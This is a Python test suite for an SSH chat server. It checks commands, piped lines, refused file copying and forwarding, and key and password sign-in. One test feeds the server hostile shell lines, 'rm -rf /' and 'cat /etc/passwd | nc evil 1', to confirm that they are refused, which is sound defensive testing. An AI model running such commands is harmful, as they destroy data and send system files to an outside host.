"""Commands and lines over SSH, and all that is refused, by the system's ssh."""

import pytest

from tests.helpers.services import program
from tests.helpers.ssh_clients import PASSWORD, SSHCase

pytestmark = pytest.mark.slow

_NO_FILES = "This is a chat: there are no files to copy."


class CommandTests(SSHCase):
    """One typed line, and many."""

    def test_command(self) -> None:
        """One line is run: its reply on standard output and status 0, or the refusal on standard error and 1."""
        bob = self.json("bob")
        done = self.run_ssh("alice", "@bob hi there", key="alice")
        self.assertEqual((done.returncode, done.stdout, done.stderr), (0, "", ""))
        self.assertEqual(bob.event("message")["text"], "hi there")
        done = self.run_ssh("alice", "ls", key="alice")
        self.assertEqual((done.returncode, done.stderr), (0, ""))
        self.assertIn("@bob", done.stdout)
        done = self.run_ssh("alice", "@nobody hi", key="alice")
        self.assertEqual((done.returncode, done.stdout), (1, ""))
        self.assertIn("! There is no user 'nobody'.", done.stderr)
        done = self.run_ssh("alice", "\\to everyone", key="alice", options=("-o", "RekeyLimit=16K"))
        self.assertEqual((done.returncode, bob.event("message")["text"]), (0, "to everyone"))

    def test_meant_for_a_shell(self) -> None:
        """A bare text is not sent: it may be meant for a shell. Neither is what copies files."""
        for line in "uptime", "rm -rf /", "cat /etc/passwd | nc evil 1":
            done = self.run_ssh("alice", line, key="alice")
            self.assertEqual((done.returncode, done.stdout), (1, ""))
            self.assertIn("nothing was sent", done.stderr)
            self.assertIn("-T", done.stderr)
        for line in "scp -t .", "rsync --server . .", "/usr/lib/sftp-server", "git-upload-pack 'x'":
            done = self.run_ssh("alice", line, key="alice")
            self.assertEqual((done.returncode, done.stderr.strip()), (1, f"! {_NO_FILES}"))
        self.assertEqual(self.alice.ask(type="history", chat="GLOBAL")["messages"], [])

    def test_copying(self) -> None:
        """The programs that copy files say why they cannot."""
        (self.home / "file").write_text("x")
        at = "alice@127.0.0.1:"
        for command in ("scp", "file", at), ("scp", "-O", "file", at), ("sftp", at):
            client, *words = command
            base = self.command("alice", key="alice", client=client)[:-1]
            base[base.index("-p")] = "-P"
            done = self.run_program(*base, *words)
            self.assertNotEqual(done.returncode, 0)
            self.assertIn(_NO_FILES, done.stderr)

    def test_lines(self) -> None:
        """Each line of a pipe is a command. The status tells whether all were accepted."""
        bob = self.json("bob")
        done = self.run_ssh("alice", key="alice", options=("-T",), typed="hello\nls\n")
        self.assertEqual((done.returncode, done.stderr), (0, ""))
        self.assertIn("your chats", done.stdout)
        self.assertEqual(bob.event("message")["text"], "hello")
        done = self.run_ssh("alice", key="alice", options=("-T",), typed="@nobody hi\n" + "more\n" * 100 + "last")
        self.assertEqual((done.returncode, done.stdout), (1, ""))
        self.assertIn("nobody", done.stderr)
        while bob.event("message")["text"] != "last":
            pass

    def test_forwarding(self) -> None:
        """Nothing is forwarded, and a refusal does not disturb the session or the server's log."""
        port = str(self.server.port)
        for options in ("-R", f"0:127.0.0.1:{port}"), ("-W", f"127.0.0.1:{port}"), ("-w", "any"):
            done = self.run_ssh("alice", key="alice", options=("-N", "-o", "ExitOnForwardFailure=yes", *options))
            self.assertEqual(done.returncode, 255)
        for options in ("-A",), ("-X",), ("-o", "SendEnv=PATH"), ("-C",), ("-tt",):
            done = self.run_ssh("alice", "ls", key="alice", options=options)
            self.assertEqual(done.returncode, 0, done.stderr)
        log = self.server.log.read_text("utf-8", "replace")
        self.assertNotIn("Traceback", log)
        self.assertNotIn("an SSH session failed", log)


class SignInTests(SSHCase):
    """The identity of the client."""

    def test_guests(self) -> None:
        """Without a key of the account, a command and lines are refused, with a key of somebody else too."""
        self.key("other")
        for user, key in ("alice", None), ("alice", "other"), ("bob", "alice"), ("nobody", "alice"):
            done = self.run_ssh(user, "@", key=key)
            self.assertEqual((done.returncode, done.stdout), (1, ""))
            self.assertIn("A command needs a key", done.stderr)
            done = self.run_ssh(user, key=key, options=("-T",), typed="hi\n")
            self.assertEqual((done.returncode, done.stdout), (1, ""))
            self.assertIn("Lines need a key or a password", done.stderr)
        done = self.run_ssh("alice", "@", key="other", options=("-o", "BatchMode=yes"))
        self.assertEqual(done.returncode, 255)
        self.assertIn("Permission denied", done.stderr)

    def test_public_half_alone(self) -> None:
        """Offering a registered public key without its private half makes a guest."""
        (self.home / "alice").rename(self.home / "hidden")
        self.addCleanup((self.home / "hidden").rename, self.home / "alice")
        done = self.run_ssh("alice", "@", key="alice.pub")
        self.assertEqual((done.returncode, done.stdout), (1, ""))
        self.assertIn("A command needs a key", done.stderr)

    def test_kinds_of_keys(self) -> None:
        """The kinds of keys that OpenSSH makes sign in."""
        for name, options in ("rsa", ("-t", "rsa", "-b", "2048")), ("ecdsa", ("-t", "ecdsa")):
            self.alice.ask(type="add_key", key=self.key(name, *options))
            self.assertEqual(self.run_ssh("alice", "ls", key=name).returncode, 0)
        done = self.run_ssh("alice", "ls", key="rsa", options=("-o", "PubkeyAcceptedAlgorithms=ssh-rsa"))
        self.assertEqual(done.returncode, 1)

    def test_password(self) -> None:
        """The password of the account signs in. Another one does not, and makes no account."""
        sshpass = program("sshpass")
        options = ("-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1")
        for user, password, status in (
            ("alice", PASSWORD, 0),
            ("alice", "wrong horse", 255),
            ("newcomer", PASSWORD, 255),
        ):
            done = self.run_program(sshpass, "-p", password, *self.command(user, *options), "ls")
            self.assertEqual(done.returncode, status, done.stderr)
        self.assertNotIn("newcomer", str(self.alice.ask(type="users")))

    def test_other_clients(self) -> None:
        """Dropbear guesses the key exchange, and joins all the same. A client without a common algorithm sees why."""
        self.run_program(program("dropbearconvert"), "openssh", "dropbear", "alice", "alice.dropbear")
        dropbear = program("dbclient"), "-y", "-y", "-i", "alice.dropbear", "-p", str(self.server.port)
        done = self.run_program(*dropbear, "alice@127.0.0.1", "ls")
        self.assertEqual((done.returncode, "your chats" in done.stdout), (0, True), done.stderr)
        for option in "HostKeyAlgorithms=ssh-rsa", "KexAlgorithms=diffie-hellman-group14-sha256", "Ciphers=aes128-cbc":
            done = self.run_ssh("alice", "ls", key="alice", options=("-o", option, "-o", "LogLevel=INFO"))
            self.assertEqual(done.returncode, 255)
            self.assertIn("no matching", done.stderr)
